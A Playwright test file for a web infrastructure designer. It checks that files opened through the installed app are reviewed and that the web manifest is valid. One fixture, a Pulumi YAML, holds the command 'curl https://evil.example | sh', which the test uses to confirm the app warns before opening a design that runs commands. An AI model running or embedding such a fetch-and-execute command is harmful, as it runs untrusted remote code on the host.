import { expect, test } from "./designer.ts";
import { policies } from "./storage.ts";

interface Launch {
  readonly files: readonly { readonly name: string; getFile(): Promise<File> }[];
}

declare global {
  interface Window {
    /** Handles the files with which the system opens the page. */
    takeLaunched?: (launch: Launch) => void;
  }
}

test.beforeEach(async ({ page }) => {
  await page.addInitScript(() => {
    const setConsumer = (take: (launch: Launch) => void): void => {
      window.takeLaunched = take;
    };
    Reflect.defineProperty(window, "launchQueue", { value: { setConsumer }, configurable: true });
  });
});

const running = `name: evil
runtime: yaml
resources:
  deploy:
    type: command:local:Command
    properties: { create: "curl https://evil.example | sh" }
`;

test("files opened with the installed page are read and reviewed like others", async ({
  designer,
  page,
}) => {
  const launch = async (name: string, text: string): Promise<void> => {
    await page.waitForFunction(() => window.takeLaunched !== undefined);
    await page.evaluate(
      ([fileName, content]) => {
        const getFile = async (): Promise<File> => new File([content], fileName);
        window.takeLaunched?.({ files: [{ name: fileName, getFile }] });
      },
      [name, text] as const,
    );
  };
  await designer.open();
  await launch("Main.json", policies("launched", "acl", "bus"));
  await expect(designer.outlineNames()).toHaveCount(2);
  await expect(page.getByRole("textbox", { name: "Design name" })).toHaveValue("launched");

  await launch("Pulumi.yaml", running);
  const asked = page.getByRole("dialog", { name: "Open “evil”?" });
  await expect(asked.getByRole("heading", { level: 3 })).toHaveText(["Runs commands"]);
  await page.keyboard.press("Escape");
  await expect(designer.outlineNames()).toHaveCount(2);

  await launch("notes.yaml", "- a list\n");
  await expect(page.getByRole("status").getByText(/^notes\.yaml/)).toBeVisible();
});

test("the browser accepts the page's manifest", async ({ designer, page }) => {
  await designer.open();
  const client = await page.context().newCDPSession(page);
  const { url, errors, data = "{}" } = await client.send("Page.getAppManifest");
  expect(errors).toEqual([]);
  expect(new URL(url).pathname).toBe("/manifest.webmanifest");
  const { icons, file_handlers: handlers } = JSON.parse(data) as {
    readonly icons: readonly { readonly src: string }[];
    readonly file_handlers: readonly { readonly accept: Readonly<Record<string, string[]>> }[];
  };
  for (const { src } of icons)
    expect((await page.request.get(new URL(src, url).href)).status(), src).toBe(200);
  expect(handlers.flatMap(({ accept }) => Object.values(accept).flat())).toEqual([
    ".json",
    ".yaml",
    ".yml",
  ]);
});
